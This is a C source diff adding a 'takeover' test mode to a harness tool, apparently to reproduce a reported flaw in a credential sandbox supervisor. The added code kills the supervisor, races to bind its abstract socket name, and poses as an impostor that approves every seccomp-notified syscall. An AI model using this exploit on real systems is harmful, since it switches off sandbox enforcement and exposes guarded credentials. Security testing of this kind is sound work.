@@ -22,11 +22,23 @@
  *       by io_uring (IORING_OP_SETXATTR):
  *       "META <call> <LABEL> ok|<errno name>". A call that needs a descriptor
  *       the open of which fails is reported as "META open <LABEL> <errno>".
- *       Exit 0. */
+ *       Exit 0.
+ *   cf-ipc takeover DIR
+ *       the attack of issue 18, from a harness child: find the IPC
+ *       supervisor above this process in /proc/net/unix, write its name to
+ *       DIR/sup-name, start SCHED_IDLE threads that bind the name in a loop
+ *       and CPU hogs, SIGKILL the supervisor, and wait for it to be gone.
+ *       A binder that wins serves as an impostor in a daemon of its own for
+ *       5 s: each listener handed to it is counted in DIR/impostor-got, and
+ *       every call on it continued. Prints "TAKEOVER killed=<pid>
+ *       bound=<0|1>". Exit 0, or 2 when no supervisor was found. */
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/fs.h>
 #include <linux/io_uring.h>
+#include <linux/seccomp.h>
+#include <poll.h>
+#include <sched.h>
 #include <stdint.h>
 #include <sys/mman.h>
 #include <pthread.h>
@@ -368,6 +380,197 @@ static int do_meta(int argc, char **argv)
 	return 0;
 }
 
+/* ---- takeover (issue 18) ---- */
+
+static pid_t parent_of(pid_t pid)
+{
+	char p[64], buf[1024];
+	snprintf(p, sizeof p, "/proc/%d/stat", (int)pid);
+	int fd = open(p, O_RDONLY | O_CLOEXEC);
+	ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
+	if (fd >= 0)
+		close(fd);
+	if (n <= 0)
+		return 0;
+	buf[n] = '\0';
+	char *e = strrchr(buf, ')');
+	int ppid = 0;
+	return e && sscanf(e + 1, " %*c %d", &ppid) == 1 ? (pid_t)ppid : 0;
+}
+
+/* The name of a supervisor whose pid is an ancestor of ours, into NAME. */
+static pid_t find_supervisor(char *name, size_t cap)
+{
+	pid_t anc[64];
+	int na = 0;
+	for (pid_t p = getppid(); p > 1 && na < 64; p = parent_of(p))
+		anc[na++] = p;
+	FILE *f = fopen("/proc/net/unix", "r");
+	char line[512];
+	pid_t found = 0;
+	while (f && !found && fgets(line, sizeof line, f)) {
+		char *at = strstr(line, "@credfence-sup-");
+		int pid = 0;
+		if (!at || sscanf(at, "@credfence-sup-%d-", &pid) != 1)
+			continue;
+		for (int i = 0; i < na && !found; i++)
+			if (anc[i] == pid) {
+				found = pid;
+				snprintf(name, cap, "%s", at + 1);
+				name[strcspn(name, " \n")] = '\0';
+			}
+	}
+	if (f)
+		fclose(f);
+	return found;
+}
+
+static const char *to_name;
+static volatile int stop_all;
+static volatile int won_fd = -1;
+
+static int bind_abstract(const char *name)
+{
+	struct sockaddr_un sa = {.sun_family = AF_UNIX};
+	size_t n = strlen(name);
+	memcpy(sa.sun_path + 1, name, n);
+	int s = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
+	if (s < 0)
+		return -1;
+	if (bind(s, (struct sockaddr *)&sa, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n)) <
+		    0 ||
+	    listen(s, 64) < 0) {
+		close(s);
+		return -1;
+	}
+	return s;
+}
+
+static void *binder(void *arg)
+{
+	(void)arg;
+	struct sched_param sp = {0};
+	pthread_setschedparam(pthread_self(), SCHED_IDLE, &sp);
+	while (!stop_all) {
+		int s = bind_abstract(to_name);
+		if (s >= 0) {
+			if (!__sync_bool_compare_and_swap(&won_fd, -1, s))
+				close(s);
+			stop_all = 1;
+		}
+	}
+	return NULL;
+}
+
+static void *hog(void *arg)
+{
+	(void)arg;
+	while (!stop_all)
+		;
+	return NULL;
+}
+
+/* The impostor: take each listener handed over, count it, continue every
+ * call made under it. */
+static void impostor(int ls, const char *dir)
+{
+	char got[4096];
+	snprintf(got, sizeof got, "%s/impostor-got", dir);
+	struct pollfd p[65];
+	int n = 1;
+	p[0] = (struct pollfd){ls, POLLIN, 0};
+	alarm(5);
+	for (;;) {
+		if (poll(p, (nfds_t)n, -1) <= 0)
+			continue;
+		if (p[0].revents & POLLIN) {
+			int c = accept4(ls, NULL, NULL, SOCK_CLOEXEC);
+			char buf[65536];
+			union {
+				struct cmsghdr h;
+				char b[CMSG_SPACE(sizeof(int))];
+			} cm;
+			struct iovec iov = {buf, sizeof buf};
+			struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cm.b,
+					   .msg_controllen = sizeof cm.b};
+			if (c >= 0 && recvmsg(c, &m, MSG_CMSG_CLOEXEC) > 0) {
+				struct cmsghdr *h = CMSG_FIRSTHDR(&m);
+				if (h && h->cmsg_type == SCM_RIGHTS && n < 65) {
+					int fd;
+					memcpy(&fd, CMSG_DATA(h), sizeof fd);
+					int g = open(got, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
+					(void)!write(g, "listener\n", 9);
+					close(g);
+					p[n++] = (struct pollfd){fd, POLLIN, 0};
+				}
+				int zero = 0;
+				(void)!send(c, &zero, sizeof zero, MSG_NOSIGNAL);
+			}
+			if (c >= 0)
+				close(c);
+		}
+		for (int i = 1; i < n; i++) {
+			if (!(p[i].revents & POLLIN))
+				continue;
+			struct seccomp_notif req;
+			struct seccomp_notif_resp resp;
+			memset(&req, 0, sizeof req);
+			if (ioctl(p[i].fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
+				continue;
+			memset(&resp, 0, sizeof resp);
+			resp.id = req.id;
+			resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
+			ioctl(p[i].fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
+		}
+	}
+}
+
+static int do_takeover(const char *dir)
+{
+	char name[256], path[4096];
+	pid_t sup = find_supervisor(name, sizeof name);
+	if (!sup) {
+		printf("TAKEOVER no supervisor above pid %d\n", (int)getpid());
+		return 2;
+	}
+	to_name = name;
+	snprintf(path, sizeof path, "%s/sup-name", dir);
+	int f = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+	(void)!write(f, name, strlen(name));
+	close(f);
+	pthread_t t[10];
+	for (int i = 0; i < 10; i++)
+		pthread_create(&t[i], NULL, i < 2 ? hog : binder, NULL);
+	usleep(20000);
+	kill(sup, SIGKILL);
+	for (int i = 0; i < 200; i++) {
+		char st[64];
+		snprintf(st, sizeof st, "/proc/%d/stat", (int)sup);
+		int fd = open(st, O_RDONLY | O_CLOEXEC);
+		char b[512] = "";
+		ssize_t k = fd >= 0 ? read(fd, b, sizeof b - 1) : 0;
+		if (fd >= 0)
+			close(fd);
+		char *e = k > 0 ? strrchr(b, ')') : NULL;
+		if (!e || e[2] == 'Z' || e[2] == 'X')
+			break;
+		usleep(5000);
+	}
+	usleep(200000); /* the starved binders' last chance */
+	stop_all = 1;
+	for (int i = 0; i < 10; i++)
+		pthread_join(t[i], NULL);
+	printf("TAKEOVER killed=%d bound=%d\n", (int)sup, won_fd >= 0);
+	fflush(stdout);
+	if (won_fd >= 0 && fork() == 0) {
+		setsid();
+		int null = open("/dev/null", O_RDWR);
+		dup2(null, 0), dup2(null, 1), dup2(null, 2);
+		impostor(won_fd, dir);
+	}
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -379,6 +582,8 @@ int main(int argc, char **argv)
 		return do_launch(argv[2], argc - 3, argv + 3);
 	if (argc >= 3 && strcmp(argv[1], "meta") == 0)
 		return do_meta(argc - 2, argv + 2);
+	if (argc == 3 && strcmp(argv[1], "takeover") == 0)
+		return do_takeover(argv[2]);
 	fputs("usage: cf-ipc connect|uring-connect SOCK REQUEST | launch spawn|fork|vfork CMD... [;; CMD...] | "
 	      "meta LABEL=PATH...\n",
 	      stderr);
